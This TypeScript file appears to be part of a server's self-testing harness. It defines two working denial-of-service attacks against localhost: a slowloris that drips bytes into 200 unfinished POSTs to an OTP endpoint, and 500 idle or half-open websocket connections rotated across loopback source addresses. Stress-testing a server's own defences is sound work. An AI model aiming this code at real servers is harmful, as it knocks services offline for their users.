import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, HostilePart } from '../part.ts';

/** Requests that never end: a byte now and then, as slowly as a server bears it (slowloris). */
export const slowBodies: HostilePart = {
  name: 'slow bodies',
  run: (attack) =>
    hold(attack, 200, (socket) => {
      socket.write(
        'POST /api/otp/send HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 4000\r\n\r\n{',
      );
      return () => socket.write(' ');
    }),
};

/** Connections that say nothing, or half of what they began. */
export const idleConnections: HostilePart = {
  name: 'idle connections',
  run: (attack) =>
    hold(attack, 500, (socket, n) => {
      if (n % 2 === 0)
        socket.write(
          'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: localhost\r\nupgrade: websocket\r\n',
        );
      return () => {};
    }),
};

async function hold(
  { target: { port }, signal }: Attack,
  count: number,
  begin: (socket: Socket, n: number) => () => void,
): Promise<void> {
  const held = Array.from({ length: count }, (_, n) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: `127.66.9.${(n % 250) + 1}` });
    socket.on('error', () => {});
    return { socket, goOn: begin(socket, n) };
  });
  while (!signal.aborted) {
    await sleep(500, undefined, { signal }).catch(() => {});
    for (const { socket, goOn } of held) if (socket.writable) goOn();
  }
  for (const { socket } of held) socket.destroy();
}
